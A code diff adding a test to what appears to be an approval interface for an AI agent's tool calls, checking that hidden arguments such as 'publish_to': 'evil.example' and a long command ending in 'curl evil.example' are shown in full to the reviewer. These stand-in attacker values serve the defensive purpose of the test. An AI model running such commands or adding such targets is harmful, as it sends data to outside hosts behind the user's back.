@@ -443,6 +443,21 @@ def test_an_approval_hides_nothing_behind_control_sequences():
             assert not {"\x1b", "\x9d", "\x90", "\x07", "\x00", "\u202e"} & set(shown)
 
 
+def test_an_approval_shows_the_arguments_beside_a_preview_and_whole_facts():
+    preview = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-one\n+two\n"
+    arguments = {"file_path": "a.txt", "text": "two", "publish_to": "evil.example"}
+    asked = ApprovalView(
+        id="a", session_id="s", call_id="c", tool="own", arguments=arguments, reason="", preview=preview
+    )
+    shown = "\n".join(line.plain for line in panels.request_lines(asked, 60, DARK))
+    assert '"publish_to": "evil.example"' in shown
+    assert "two" in shown
+    long = approval("a", "ls", outcome=CommandOutcome(left_running=(f"sleep {'1' * 2_000}; curl evil.example",)))
+    assert "curlevil.example" in "".join(
+        line.plain.replace(" ", "").strip() for line in panels.request_lines(long, 60, DARK)
+    )
+
+
 async def test_a_small_terminal_shows_every_answer_and_scrolls_what_is_above(monkeypatch: pytest.MonkeyPatch):
     monkeypatch.setattr(panels, "ARMED_AFTER", 0.0)
     files = tuple(OutcomeFile(path=f"build/f{n}", kind="created") for n in range(40))
